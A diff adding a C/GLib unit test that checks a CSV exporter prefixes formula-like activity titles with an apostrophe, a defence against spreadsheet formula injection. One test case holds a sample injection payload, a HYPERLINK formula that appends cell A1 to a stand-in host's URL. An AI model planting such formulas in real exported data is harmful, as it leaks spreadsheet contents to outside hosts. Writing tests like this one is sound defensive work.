@@ -184,6 +184,54 @@ test_csv_plan (void)
   g_assert_cmpstr (first[column_index (header, "plan")], ==, ccp_plan_get_id (plan));
 }
 
+/* Texts a spreadsheet would run as formulas get an apostrophe in front; others are untouched. */
+static void
+test_csv_formulas (void)
+{
+  static const struct {
+    const char *title;
+    const char *cell;
+  } cases[] = {
+    { "=HYPERLINK(\"https://example.org/?\"&A1,\"Tickets\")",
+      "'=HYPERLINK(\"https://example.org/?\"&A1,\"Tickets\")" },
+    { "+1 concert", "'+1 concert" },
+    { "-20% for students", "'-20% for students" },
+    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+    { "\tTabbed", "'\tTabbed" },
+    { "Jazz = joy", "Jazz = joy" },
+    { "'Quoted'", "'Quoted'" },
+  };
+  g_autoptr(GRand) rand = g_rand_new_with_seed (22);
+  g_autoptr(CcpPlan) plan = ccp_test_random_plan (rand, "Bologna", "IT", "music", "2027-H1",
+                                                   G_N_ELEMENTS (cases));
+  GListModel *activities = G_LIST_MODEL (ccp_plan_get_activities (plan));
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(GPtrArray) rows = NULL;
+  const char *text;
+  gsize len;
+  char **header;
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(CcpActivity) activity = g_list_model_get_item (activities, i);
+
+      ccp_activity_set_title (activity, cases[i].title);
+    }
+  bytes = ccp_export_csv (G_OBJECT (plan));
+  text = g_bytes_get_data (bytes, &len);
+  rows = parse_csv (text, len);
+  g_assert_nonnull (rows);
+  header = g_ptr_array_index (rows, 0);
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      char **row = g_ptr_array_index (rows, i + 1);
+
+      g_assert_cmpstr (row[column_index (header, "title")], ==, cases[i].cell);
+      /* Codes and dates are never touched. */
+      g_assert_cmpstr (row[column_index (header, "city")], ==, "Bologna");
+    }
+}
+
 static CcpFieldPlan *
 merged_examples (void)
 {
@@ -392,6 +440,7 @@ main (int    argc,
   g_test_init (&argc, &argv, NULL);
 
   g_test_add_func ("/export/csv/plan", test_csv_plan);
+  g_test_add_func ("/export/csv/formulas", test_csv_formulas);
   g_test_add_func ("/export/csv/field-plan", test_csv_field_plan);
   g_test_add_func ("/export/html/plan", test_html_plan);
   g_test_add_func ("/export/html/field-plan", test_html_field_plan);
